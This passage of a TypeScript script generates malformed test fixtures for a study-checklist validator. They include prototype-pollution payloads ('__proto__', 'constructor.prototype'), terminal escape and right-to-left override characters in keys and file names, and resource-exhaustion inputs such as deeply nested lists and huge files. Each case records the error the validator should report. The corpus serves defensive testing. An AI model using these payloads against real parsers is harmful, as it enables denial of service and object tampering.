  add('limits/file-size-flag.json', '--max-file-size 64 refuses a larger file', json(fragment()), error('too-large', 'more than the limit of 64'), ['--max-file-size', '64']);
  add('limits/file-size-flag-units.json', '--max-file-size 1k accepts a small file', json(fragment()), report('not reported'), ['--max-file-size', '1k']);
  add('limits/bad-flag-zero.json', '--max-depth 0 is a usage error', json(fragment()), { exit: 2, code: 'usage', message: '--max-depth must be a whole number' }, ['--max-depth', '0']);
  add('limits/bad-flag-text.json', '--max-values lots is a usage error', json(fragment()), { exit: 2, code: 'usage', message: '--max-values must be a whole number' }, ['--max-values', 'lots']);
  add('limits/bad-flag-size.json', '--max-file-size 10X is a usage error', json(fragment()), { exit: 2, code: 'usage', message: '--max-file-size must be a size' }, ['--max-file-size', '10X']);
  add('limits/bad-flag-negative.json', '--max-array-length -1 is a usage error', json(fragment()), { exit: 2, code: 'usage', message: '--max-array-length' }, ['--max-array-length=-1']);

  // Prototype keys: data, never behaviour
  add('prototype/proto-top.json', '__proto__ at the top', '{"__proto__": {"polluted": true}, "checklistVersion": "1.0", "study": {"design": ["in-vivo"]}}', report('Unknown field "__proto__"'));
  add('prototype/constructor-prototype.json', 'constructor.prototype', '{"constructor": {"prototype": {"polluted": true}}, "checklistVersion": "1.0"}', report('Unknown field "constructor"'));
  add('prototype/proto-in-section.json', '__proto__ inside a section', json(fragment()).replace('"study": {', '"study": {\n    "__proto__": { "polluted": true },'), report('Unknown field "__proto__"'));
  add('prototype/proto-in-item.json', '__proto__ inside an item value', jsonStorage('"temperature": { "value": -80, "unit": "°C", "__proto__": { "value": "polluted" } }'), report('Unknown field "__proto__"'));
  add('prototype/proto-in-arm.json', '__proto__ as an arm id and key', json(fragment({ doseAdministration: { arms: [{ id: '__proto__' }, { id: 'constructor' }] } })).replace('"id": "constructor"', '"id": "constructor", "__proto__": { "polluted": true }'), report('Unknown field "__proto__"'));
  add('prototype/prototype-key.json', 'a key named prototype', '{"prototype": {"polluted": true}, "checklistVersion": "1.0"}', report('Unknown field "prototype"'));
  add('prototype/proto-top.yaml', '__proto__ in YAML', '__proto__:\n  polluted: true\nchecklistVersion: "1.0"\n', report('Unknown field "__proto__"'));
  add('prototype/constructor-prototype.yaml', 'constructor.prototype in YAML', 'constructor:\n  prototype:\n    polluted: true\nchecklistVersion: "1.0"\n', report('Unknown field "constructor"'));
  add('prototype/proto-merge.yaml', '__proto__ through an alias', 'p: &p { polluted: true }\n__proto__: *p\nchecklistVersion: "1.0"\n', report('Unknown field "__proto__"'));
  add('prototype/proto-preparation-id.yaml', '__proto__ as a preparation id referred to elsewhere', 'checklistVersion: "1.0"\nproduction:\n  preparations:\n    - { id: __proto__ }\nstorage:\n  preparations:\n    - { preparationId: toString }\n', report('"toString" is not a preparation declared'));

  // Numbers
  // Numbers no JSON document can hold are refused where they are written (issue 11, point 19).
  const outOfRange = (line: number, column: number): Expected => error('number-out-of-range', 'too large for a JSON number', line, column);
  add('numbers/nan.yaml', '.nan', yamlStorage('  temperature: { value: .nan, unit: °C }\n'), error('number-out-of-range', '"not a number" (.nan)', 5, 25));
  add('numbers/infinity.yaml', '.inf', yamlStorage('  temperature: { value: .inf, unit: °C }\n'), outOfRange(5, 25));
  add('numbers/minus-infinity.yaml', '-.inf', yamlStorage('  temperature: { value: -.inf, unit: °C }\n'), outOfRange(5, 25));
  add('numbers/overflow.json', '1e400 overflows to Infinity', jsonStorage('"temperature": { "value": 1e400, "unit": "°C" }'), outOfRange(4, 42));
  add('numbers/overflow.yaml', '1e400 in YAML', yamlStorage('  temperature: { value: 1e400, unit: °C }\n'), outOfRange(5, 25));
  add('numbers/overflow-negative.json', '-1e400', jsonStorage('"temperature": { "value": -1e400, "unit": "°C" }'), outOfRange(4, 42));
  add('numbers/overflow-just-over.json', '1.8e308, just past the largest double', jsonStorage('"temperature": { "value": 1.8e308, "unit": "°C" }'), outOfRange(4, 42));
  add('numbers/overflow-long-digits.json', 'a 400-digit integer', jsonStorage(`"temperature": { "value": ${'9'.repeat(400)}, "unit": "°C" }`), outOfRange(4, 42));
  add('numbers/overflow-in-list.json', '1e400 inside a list', json({ checklistVersion: '1.0', x: [1, 2] }).replace('2\n', '1e999\n'), error('number-out-of-range', 'too large'));
  add('numbers/largest-double.json', '1.7976931348623157e308 is still a number: a report', jsonStorage('"temperature": { "value": 1.7976931348623157e308, "unit": "°C" }'), report('Storage'));
  // Nesting within a raised --max-depth that the parsers still cannot follow: a depth problem, not an alias bomb or a crash.
  const parserDepth = error('too-deep', 'more deeply than the parser can follow');
  add('yaml/deep-flow-raised-depth.yaml', '20 000 nested flow lists with --max-depth 100000', `x: ${'['.repeat(20_000)}${']'.repeat(20_000)}\n`, parserDepth, ['--max-depth', '100000', '--max-values', '999999']);
  add('json/deep-invalid-raised-depth.json', '20 000 nested lists, one left open, with --max-depth 100000', `${'['.repeat(20_000)}${']'.repeat(19_999)}`, parserDepth, ['--max-depth', '100000', '--max-values', '999999']);
  add('json/deep-objects-invalid-raised-depth.json', '20 000 nested objects with a missing brace, --max-depth 100000', `${'{"a":'.repeat(20_000)}1${'}'.repeat(19_999)}`, parserDepth, ['--max-depth', '100000', '--max-values', '999999']);
  add('numbers/underflow.json', '1e-400 underflows to 0', jsonStorage('"temperature": { "value": 1e-400, "unit": "°C" }, "duration": { "value": 1e-400, "unit": "d" }'), report('Storage form: not reported'));
  add('numbers/negative-zero.json', '-0', jsonStorage('"temperature": { "value": -0, "unit": "°C" }'), report('Storage form: not reported'));
  add('numbers/huge-integer.json', 'an integer beyond 2^53', jsonStorage('"freezeThaw": { "cycles": 123456789012345678901234567890 }'), report('is above the largest allowed value'));
  add('numbers/huge-integer.yaml', 'an integer beyond 2^53 in YAML', yamlStorage('  freezeThaw: { cycles: 123456789012345678901234567890 }\n'), report('is above the largest allowed value'));
  add('numbers/number-as-string.json', 'a number written as text', jsonStorage('"temperature": { "value": "-80", "unit": "°C" }'), report('Write numbers as numbers'));
  add('numbers/scientific-as-string.yaml', '2×10^6 written as text', yamlStorage('  duration: { value: "2×10^6", unit: d }\n'), report('2×10^6 is 2000000'));
  add('numbers/exponent-as-string.json', '"1e3" as text', jsonStorage('"duration": { "value": "1e3", "unit": "d" }'), report('Write numbers as numbers'));
  add('numbers/boolean-as-string.json', '"true" as text', json(fragment({ production: { priming: { applied: 'true' } } })), report('Expected true or false, found text ("true")'));
  add('numbers/fraction-count.json', 'a fractional count', jsonStorage('"freezeThaw": { "cycles": 1.5 }'), report('Expected a whole number'));

  // Units that look alike
  add('units/micro-sign.json', 'µL with U+00B5 MICRO SIGN: accepted, shown as μL', json(fragment({ doseAdministration: { volume: { volume: { value: 10, unit: 'µL' } } } })), report('µL → μL'));
  add('units/greek-mu.json', 'μL with U+03BC GREEK SMALL LETTER MU: accepted as is', json(fragment({ doseAdministration: { volume: { volume: { value: 10, unit: 'μL' } } } })), report('not reported'));
  add('units/ascii-u.yaml', 'uL: accepted, shown as μL', 'checklistVersion: "1.0"\ndoseAdministration:\n  volume: { volume: { value: 10, unit: uL } }\n', report('uL → μL'));
  add('units/micro-sign-mass.yaml', 'µg/mL with U+00B5', 'checklistVersion: "1.0"\ncharacterization:\n  totalProtein: { concentration: { value: 5, unit: µg/mL }, assay: bca }\n', report('µg/mL → μg/mL'));
  add('units/degree-sign.json', '°C with U+00B0 DEGREE SIGN', temperature('°C'), report('not reported'));
  add('units/ordinal-indicator.json', 'ºC with U+00BA MASCULINE ORDINAL INDICATOR: accepted, shown as °C', temperature('ºC'), report('ºC → °C'));
  add('units/celsius-sign.json', '℃ U+2103: accepted, shown as °C', temperature('℃'), report('℃ → °C'));
  add('units/plain-c.json', 'C alone is not a temperature unit', temperature('C'), report('"C" is not accepted here'));
  add('units/degree-space-c.json', '° C with a space', temperature('° C'), report('"° C" is not accepted here'));
  add('units/ring-above.json', 'C with a combining ring above', temperature('\u030aC'), report('is not accepted here'));
  add('units/fullwidth-ml.json', 'fullwidth ｍL', json(fragment({ doseAdministration: { volume: { volume: { value: 10, unit: 'ｍL' } } } })), report('is not accepted here'));
  add('units/zero-width-in-unit.json', 'a zero-width space inside °C', temperature('°\u200bC'), report('is not accepted here'));
  add('units/degc.yaml', 'degC: accepted, shown as °C', yamlStorage('  temperature: { value: -80, unit: degC }\n'), report('degC → °C'));

  // Invisible and direction-changing characters in keys and values
  add('unicode/rtl-override-key.json', 'a right-to-left override inside a key', '{"checklistVersion": "1.0", "sto\u202Erage": {}}', report('Unknown field "sto\u202Erage"'));
  add('unicode/rtl-override-value.yaml', 'a right-to-left override in a value', 'checklistVersion: "1.0"\nstorage:\n  form: { value: "fro\u202Ezen" }\n', report('is not accepted here'));
  add('unicode/zero-width-key.json', 'a zero-width space inside a key', '{"checklistVersion": "1.0", "stor\u200Bage": {}}', report('Did you mean "storage"?'));
  add('unicode/zero-width-joiner-key.yaml', 'a zero-width joiner inside a key', 'checklistVersion: "1.0"\nstu\u200Ddy:\n  design: [in-vivo]\n', report('Did you mean "study"?'));
  add('unicode/bom-inside-key.json', 'a byte-order mark inside a key', '{"checklistVersion": "1.0", "\uFEFFstudy": {}}', report('Did you mean "study"?'));
  add('unicode/bidi-isolate-key.yaml', 'bidirectional isolates around a key', 'checklistVersion: "1.0"\n\u2066study\u2069:\n  design: [in-vivo]\n', report('Did you mean "study"?'));
  add('unicode/nfd-value.json', 'a decomposed é in a value (not normalised, kept as written)', json(fragment({ study: { design: ['in-vivo'], title: 'Se\u0301cre\u0301tome' } })), report('not reported'));
  add('unicode/emoji-key.yaml', 'an emoji key', 'checklistVersion: "1.0"\n"🧪": 1\n', report('Unknown field "🧪"'));
  add('unicode/escape-sequence-key.json', 'a terminal escape sequence inside a key', '{"checklistVersion": "1.0", "\\u001b[2J\\u001b[31mstorage": {}}', report('Unknown field'));
  add('unicode/escape-sequence-duplicate.json', 'a terminal escape sequence in a duplicated key (it reaches stderr)', '{"\\u001b[2Jx": 1, "\\u001b[2Jx": 2}', error('duplicate-key', 'the key "\\u001B[2Jx" appears twice'));
  add('unicode/rtl-duplicate.yaml', 'a right-to-left override in a duplicated key (it reaches stderr)', '"a\u202Eb": 1\n"a\u202Eb": 2\n', error('duplicate-key', 'the key "a\\u202Eb" appears twice', 2, 1));
  add('unicode/line-separator-duplicate.json', 'U+2028 in a duplicated key (it reaches stderr)', '{"a\u2028b": 1, "a\u2028b": 2}', error('duplicate-key', 'the key "a\\u2028b" appears twice'));

  addSpreadsheetCases(add);

  return cases;
}

// ---------------------------------------------------------------------------------------------------------
// Generated at test time

function writeText(file: string, text: string | Uint8Array): void {
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, text);
}

/** Writes `count` copies of `entry` joined by `separator` between `head` and `tail`, without building one huge string. */
function writeRepeated(file: string, head: string, entry: string, separator: string, count: number, tail: string): void {
  mkdirSync(dirname(file), { recursive: true });
  const fd = openSync(file, 'w');
  try {
    writeFileSync(fd, head);
    const block = Array(1000).fill(entry).join(separator);
    for (let done = 0; done < count; done += 1000) {
      const n = Math.min(1000, count - done);
      writeFileSync(fd, `${done > 0 ? separator : ''}${n === 1000 ? block : Array(n).fill(entry).join(separator)}`);
    }
    writeFileSync(fd, tail);
  } finally {
    closeSync(fd);
  }
}

function generatedCases(): GeneratedCase[] {
  const cases: GeneratedCase[] = [];
  const large = (file: string, description: string, make: (path: string) => void, expect: Expected, args?: string[]): void => {
    cases.push({ file, description, generated: 'large', expect, make: (dir) => make(join(dir, file)), ...(args ? { args } : {}) });
  };
  const fsCase = (file: string, description: string, make: (dir: string) => void, expect: Expected, extra: Partial<ManifestCase> = {}): void => {
    cases.push({ file, description, generated: 'filesystem', expect, make, ...extra });
  };
  const sparse = (path: string, size: number): void => {
    mkdirSync(dirname(path), { recursive: true });
    const fd = openSync(path, 'w');
    ftruncateSync(fd, size);
    closeSync(fd);
  };
  const MB = 1024 * 1024;

  large('large/200mb.json', 'a 200 MB file (sparse)', (path) => sparse(path, 200 * MB), error('too-large', 'the file is 209715200 bytes, more than the limit of 10485760'));
  large('large/200mb.yaml', 'a 200 MB YAML file (sparse)', (path) => sparse(path, 200 * MB), error('too-large', 'more than the limit'));
  large('large/200mb-raised-limit.json', 'a 200 MB file with the limit raised: read, then refused as binary', (path) => sparse(path, 200 * MB), error('binary', 'NUL bytes'), ['--max-file-size', '256M']);
  large('large/just-over-10mb.json', '10 MiB and one byte', (path) => writeRepeated(path, '{"x":"', 'x', '', 10 * MB - 7, '"}'), error('too-large', 'the file is 10485761 bytes'));
  large('large/array-1m.json', 'a list of a million entries at the top', (path) => writeRepeated(path, '[', '0', ',', 1_000_000, ']'), error('too-many-items', 'a list has more than 1000 entries', 1, 2002));
  large('large/array-1m-in-section.json', 'a million entries in study.design', (path) => writeRepeated(path, '{"checklistVersion": "1.0", "study": {"design": [', '"in-vivo"', ',', 1_000_000, ']}}'), error('too-many-items', 'more than 1000 entries'));
  large('large/array-1m-objects.json', 'a million arms', (path) => writeRepeated(path, '{"doseAdministration": {"arms": [', '{"id":1}', ',', 1_000_000, ']}}'), error('too-many-items', 'more than 1000 entries'));
  large('large/array-1m-block.yaml', 'a block sequence of a million entries', (path) => writeRepeated(path, 'x:\n', '  - 0', '\n', 1_000_000, '\n'), error('too-many-values', 'more than 50000 values'));
  large('large/array-1m-flow.yaml', 'a flow sequence of a million entries', (path) => writeRepeated(path, 'x: [', '0', ', ', 1_000_000, ']\n'), error('too-many-values', 'more than 50000 values'));
  large('large/keys-1m.json', 'an object with a million keys (within the size limit)', (path) => {
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, `{${Array.from({ length: 1_000_000 }, (_, index) => `"${index.toString(36)}":0`).join(',')}}`);
  }, error('too-many-values', 'more than 50000 values'));
  large('large/nested-lists-within-limits.json', '49 lists of 1000 entries: within every limit, a report', (path) => writeRepeated(path, '{"checklistVersion": "1.0", "x": [', `[${Array(1000).fill(0).join(',')}]`, ',', 49, ']}'), report('Unknown field "x"'));
  large('large/many-keys-in-section.yaml', '40 000 unknown keys in one section: within the limits, a report', (path) => {
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, `checklistVersion: "1.0"\nstudy:\n${Array.from({ length: 40_000 }, (_, index) => `  k${index}: 1`).join('\n')}\n`);
  }, report('Unknown field "k0"'));
  large('large/string-200k.json', 'a text of 200 000 characters', (path) => writeText(path, json(fragment({ study: { design: ['in-vivo'], title: 'x'.repeat(200_000) } }))), error('too-long', 'a text is 200000 characters long', 7, 14));
  large('large/key-5m.json', 'a key of five million characters', (path) => writeText(path, `{"${'k'.repeat(5_000_000)}": 1}`), error('too-long', 'a key is 5000000 characters long'));
  large('large/multiline-string.yaml', 'a block text of 200 000 lines', (path) => writeRepeated(path, 'checklistVersion: "1.0"\nstudy:\n  title: |\n', '    Lorem ipsum dolor sit amet', '\n', 200_000, '\n'), error('too-long', 'a text is written over', 3, 10));
  large('large/folded-string.yaml', 'a folded text of 9 MB', (path) => writeRepeated(path, 'study:\n  title: >\n', '    word word word word word word word word word word', '\n', 180_000, '\n'), error('too-long', 'a text is written over'));
  large('large/quoted-string.yaml', 'a double-quoted text of 9 MB', (path) => writeRepeated(path, 'study:\n  title: "', 'x'.repeat(1000), '', 9000, '"\n'), error('too-long', 'a text is written over 9000002 characters', 2, 10));
  large('large/deep-1m.json', 'a million nested lists', (path) => writeRepeated(path, '', '[', '', 1_000_000, ''), error('too-deep', 'more than 64 levels deep', 1, 65));
  large('large/deep-flow-1m.yaml', 'a million nested flow lists', (path) => writeRepeated(path, 'x: ', '[', '', 1_000_000, '\n'), error('too-many-values', 'more than 50000 values'));
  large('large/commas-1m.yaml', 'a million commas inside a quoted text (counted conservatively)', (path) => writeRepeated(path, 'x: "', ',', '', 1_000_000, '"\n'), error('too-many-values', 'more than 50000 values'));

  // Large but legal YAML whose cost is in its syntax elements, not its values: each line of a quoted text,
  // each blank or comment line, each anchor or tag costs the parser hundreds of bytes (issue 11, point 1).
  const yamlTokens = error('too-many-values', 'syntax elements');
  const tenMb = (unit: string): number => Math.floor((10 * MB - 100) / unit.length);
  large('large/yaml-cost/double-quoted-lines.yaml', 'a double-quoted text over 3 million short unindented lines (10 MB)', (path) => writeRepeated(path, 'checklistVersion: "1.0"\nstudy:\n  title: "', 'a ', '\n', tenMb('a \n'), '"\n'), yamlTokens);
  large('large/yaml-cost/single-quoted-lines.yaml', 'a single-quoted text over 3 million short unindented lines (10 MB)', (path) => writeRepeated(path, "checklistVersion: '1.0'\nstudy:\n  title: '", 'a ', '\n', tenMb('a \n'), "'\n"), yamlTokens);
  large('large/yaml-cost/blank-lines.yaml', '10 million blank lines after one key', (path) => writeRepeated(path, 'checklistVersion: "1.0"\n', '', '\n', 10 * MB - 100, '\n'), yamlTokens);
  large('large/yaml-cost/comment-lines.yaml', 'three million comment lines', (path) => writeRepeated(path, 'checklistVersion: "1.0"\n', '#c', '\n', tenMb('#c\n'), '\n'), yamlTokens);
  large('large/yaml-cost/indented-comments.yaml', 'two million indented comments inside a mapping', (path) => writeRepeated(path, 'checklistVersion: "1.0"\nstudy:\n', '  # c', '\n', tenMb('  # c\n'), '\n  title: x\n'), yamlTokens);
  large('large/yaml-cost/anchors.yaml', 'three million anchors on one value', (path) => writeRepeated(path, 'a: ', '&a', ' ', tenMb('&a '), ' 1\n'), yamlTokens);
  large('large/yaml-cost/tags.yaml', 'three million tags on one value', (path) => writeRepeated(path, 'a: ', '!t', ' ', tenMb('!t '), ' 1\n'), yamlTokens);
  large('large/yaml-cost/directives.yaml', 'a million %YAML directives', (path) => writeRepeated(path, '', '%YAML 1.2', '\n', tenMb('%YAML 1.2\n'), '\n---\na: 1\n'), yamlTokens);
  large('large/yaml-cost/plain-lines.yaml', 'a plain text folded over 2 million lines', (path) => writeRepeated(path, 'checklistVersion: "1.0"\nstudy:\n  title: ', 'a', '\n   ', tenMb('a\n   '), '\n'), error('too-long', 'a text is written over'));
  large('large/yaml-cost/block-text-lines.yaml', 'a literal block text of 2 million short lines', (path) => writeRepeated(path, 'checklistVersion: "1.0"\nstudy:\n  title: |\n', '    a', '\n', tenMb('    a\n'), '\n'), error('too-long', 'a text is written over'));
  large('large/yaml-cost/quoted-lines-raised.yaml', 'a quoted text over 500 000 lines with the text limit raised: still refused by its syntax elements', (path) => writeRepeated(path, 'checklistVersion: "1.0"\nstudy:\n  title: "', 'a ', '\n', 500_000, '"\n'), yamlTokens, ['--max-string-length', '10000000']);

  large('large/deep-block-raised-depth.yaml', '3000 nested block mappings with --max-depth 100000 (no aliases)', (path) => writeText(path, `${Array.from({ length: 3000 }, (_, level) => `${' '.repeat(level)}a:`).join('\n')} 1\n`), error('too-deep', 'more deeply than the parser can follow'), ['--max-depth', '100000']);

  const fromExample = (file: string, description: string, transform: (text: string) => string | Uint8Array, expect: Expected): void => {
    cases.push({ file, description, generated: 'example', expect, make: (dir) => writeText(join(dir, file), transform(completeExample())) });
  };
  // Complete documents with harmless oddities (exit 0), made from the complete example so they follow it.
  fromExample('complete/bom-crlf.yaml', 'the complete example with a BOM and Windows line endings', (text) => bytes([0xef, 0xbb, 0xbf], text.replaceAll('\n', '\r\n')), report('µm → μm', 0));
  fromExample('complete/greek-mu.yaml', 'the complete example with every µ written as μ', (text) => text.replaceAll('µ', 'μ'), report('minimal set complete', 0));
  fromExample('complete/ordinal-celsius.yaml', 'the complete example with ºC for °C', (text) => text.replaceAll('°C', 'ºC'), report('ºC → °C', 0));
  fromExample('complete/as-json.json', 'the complete example converted to JSON', (text) => `${JSON.stringify(parseYaml(text), null, 2)}\n`, report('minimal set complete', 0));
  fromExample('complete/as-json-minified.json', 'the complete example as JSON on one line', (text) => JSON.stringify(parseYaml(text)), report('minimal set complete', 0));

  fsCase('fs/symlink-to-valid.yaml', 'a symbolic link to a valid study report', (dir) => {
    writeText(join(dir, 'fs/target/valid.yaml'), 'checklistVersion: "1.0"\nstudy:\n  design: [in-vivo]\n');
    symlinkSync('target/valid.yaml', join(dir, 'fs/symlink-to-valid.yaml'));
  }, report('not reported'));
  fsCase('fs/dangling-symlink.json', 'a symbolic link to nothing', (dir) => {
    mkdirSync(join(dir, 'fs'), { recursive: true });
    symlinkSync('does-not-exist.json', join(dir, 'fs/dangling-symlink.json'));
  }, error('read-failed', 'no such file'));
  fsCase('fs/symlink-loop.json', 'two symbolic links pointing at each other', (dir) => {
    mkdirSync(join(dir, 'fs'), { recursive: true });
    symlinkSync('symlink-loop-b.json', join(dir, 'fs/symlink-loop.json'));
    symlinkSync('symlink-loop.json', join(dir, 'fs/symlink-loop-b.json'));
  }, error('read-failed', 'too many symbolic links'));
  fsCase('fs/unreadable.json', 'a file nobody may read (chmod 000)', (dir) => {
    writeText(join(dir, 'fs/unreadable.json'), json(fragment()));
    chmodSync(join(dir, 'fs/unreadable.json'), 0o000);
  }, error('read-failed', 'permission denied'), { needsNonRoot: true });
  fsCase('fs/empty-dir', 'an empty directory', (dir) => mkdirSync(join(dir, 'fs/empty-dir'), { recursive: true }), error('read-failed', 'holds no .json, .yaml, .yml, .xlsx, .csv or .tsv files'));
  fsCase('fs/dir-without-documents', 'a directory with only other files', (dir) => writeText(join(dir, 'fs/dir-without-documents/notes.txt'), 'not a study\n'), error('read-failed', 'holds no .json, .yaml, .yml, .xlsx, .csv or .tsv files'));
  fsCase('fs/missing.yaml', 'a file that does not exist', (dir) => mkdirSync(join(dir, 'fs'), { recursive: true }), error('read-failed', 'no such file'));
  fsCase('fs/missing-dir/study.yaml', 'a file in a directory that does not exist', (dir) => mkdirSync(join(dir, 'fs'), { recursive: true }), error('read-failed', 'no such file'));
  fsCase('fs/not-a-dir.yaml/study.yaml', 'a path through a file', (dir) => writeText(join(dir, 'fs/not-a-dir.yaml'), 'x: 1\n'), error('read-failed', 'cannot be read (ENOTDIR)'));
  fsCase('/dev/null', 'a character device', () => undefined, error('not-a-file', 'not a regular file'));
  fsCase('fs/newline\nin-name.json', 'a file name with a line break (stderr stays one line)', (dir) => writeText(join(dir, 'fs/newline\nin-name.json'), '{'), error('json-syntax', 'newline\\u000Ain-name.json'));
  fsCase('fs/\u001b[31mescape-in-name.json', 'a file name with a terminal escape sequence', (dir) => writeText(join(dir, 'fs/\u001b[31mescape-in-name.json'), '{'), error('json-syntax', '\\u001B[31mescape-in-name.json'));
  fsCase('fs/directory.json', 'a directory named like a document, holding one', (dir) => writeText(join(dir, 'fs/directory.json/inner.json'), '[]'), error('not-a-document', 'holds a list'));
  fsCase(`fs/${'n'.repeat(300)}.json`, 'a file name longer than the system allows', (dir) => mkdirSync(join(dir, 'fs'), { recursive: true }), error('read-failed', 'the file name is too long'));
  addLargeSpreadsheetCases(large);
  return cases;
}

/** Creates the large and file-system cases in `dir`; returns their manifest entries. */
export function writeGeneratedCases(dir: string, filter: (entry: ManifestCase) => boolean = () => true): ManifestCase[] {
  const made: ManifestCase[] = [];
  for (const entry of generatedCases()) {
    if (!filter(entry)) continue;
    entry.make(dir);
    const { make: _make, ...manifestEntry } = entry;
    made.push(manifestEntry);
  }
  return made;
}

function manifestOf(): { cases: ManifestCase[] } {
  const small = smallCases().map(({ content: _content, ...entry }) => entry);
  const generated = generatedCases().map(({ make: _make, ...entry }) => entry);
  return { cases: [...small, ...generated] };
}

/** The committed small cases and manifest as the script would write them. */
function expectedFiles(): Map<string, Uint8Array> {
  const manifest = `${JSON.stringify({ $comment: 'Generated by scripts/make-bad-corpus.ts; do not edit by hand.', ...manifestOf() }, null, 2)}\n`;
  const expected = new Map<string, Uint8Array>(smallCases().map((entry) => [entry.file, typeof entry.content === 'string' ? utf8(entry.content) : entry.content]));
  expected.set('manifest.json', utf8(manifest));
  return expected;
}

/** Files of test/fixtures/bad that differ from what the script writes, are missing, or are not the script's. */
export function corpusDrift(): string[] {
  const expected = expectedFiles();
  const stale = [...expected].filter(([file, content]) => {
    const path = join(CORPUS_DIR, file);
    return !existsSync(path) || Buffer.compare(readFileSync(path), Buffer.from(content)) !== 0;
  });
  const listed = (dir: string): string[] =>
    readdirSync(dir, { withFileTypes: true }).flatMap((entry) => (entry.isDirectory() ? listed(join(dir, entry.name)) : [relative(CORPUS_DIR, join(dir, entry.name))]));
  const extra = existsSync(CORPUS_DIR) ? listed(CORPUS_DIR).filter((file) => !expected.has(file)) : [];
  return [...stale.map(([file]) => file), ...extra];
}

function main(): void {
  if (process.argv.includes('--check')) {
    const drift = corpusDrift();
    if (drift.length > 0) {
      process.stderr.write(`test/fixtures/bad is out of date (${drift.join(', ')}); run "npx tsx scripts/make-bad-corpus.ts".\n`);
      process.exitCode = 1;
    }
    return;
  }
  const expected = expectedFiles();
  rmSync(CORPUS_DIR, { recursive: true, force: true });
  for (const [file, content] of expected) writeText(join(CORPUS_DIR, file), content);
  process.stdout.write(`Wrote ${expected.size - 1} small cases and the manifest (${manifestOf().cases.length} cases) to ${relative(root, CORPUS_DIR)}/.\n`);
}

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) main();
